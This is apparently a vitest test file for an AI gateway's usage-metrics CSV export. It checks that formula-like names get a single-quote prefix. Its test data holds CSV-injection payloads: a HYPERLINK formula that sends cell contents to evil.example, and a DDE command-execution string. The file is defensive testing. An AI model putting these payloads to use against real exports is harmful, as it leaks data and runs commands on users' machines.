import { parse as parseCsv } from 'csv-parse/sync';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UsageStore } from '../../src/store/usage-store.service';
import { startApp, type RunningApp } from '../support/app';

let dir: string;
let gw: RunningApp;

/** Names a spreadsheet would run as formulas, as users, sessions and models. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '=cmd|\'/C calc\'!A0'];

const chat = (model: string, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(`${gw.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ model, messages: [{ role: 'user', content: 'hi' }] }),
  });

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vdm-export-'));
  gw = await startApp({ DEMO_TOKEN_DELAY: '0', VDM_STORE: `sqlite:${join(dir, 'usage.db')}`, VDM_STORE_FLUSH_MS: '20', VDM_INSTANCE_ID: 'gw-x' });
  for (const name of FORMULAS) expect((await chat(`demo:${name}`, { 'x-vdm-user': name, 'x-vdm-session': name })).status).toBe(200);
  expect((await chat('demo:plain-model', { 'x-vdm-user': 'alice', 'x-vdm-session': 's-1' })).status).toBe(200);
  await gw.app.get(UsageStore).flush();
});
afterAll(async () => {
  await gw.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('GET /metrics/usage?format=csv', () => {
  it('prefixes every cell a spreadsheet would run as a formula with a single quote, and leaves the rest and the JSON as they are', async () => {
    const json = (await (await fetch(`${gw.url}/metrics/usage?group_by=user,session,model`)).json()) as { rows: Record<string, unknown>[] };
    expect(json.rows.map((r) => r.user).sort()).toEqual([...FORMULAS, 'alice'].sort());
    const text = await (await fetch(`${gw.url}/metrics/usage?group_by=user,session,model&format=csv`)).text();
    const records = parseCsv<Record<string, string>>(text, { columns: true });
    expect(records).toHaveLength(FORMULAS.length + 1);
    for (const r of records) {
      for (const column of ['user', 'session', 'model']) expect(r[column], `${column} ${r[column]}`).not.toMatch(/^[=+\-@\t\r]/);
      expect(Number(r.requests)).toBe(1);
    }
    const byUser = new Map(records.map((r) => [r.user, r]));
    for (const name of FORMULAS) expect(byUser.get(`'${name}`)).toMatchObject({ session: `'${name}`, model: `'${name}` });
    expect(byUser.get('alice')).toMatchObject({ session: 's-1', model: 'plain-model' });
  });
});
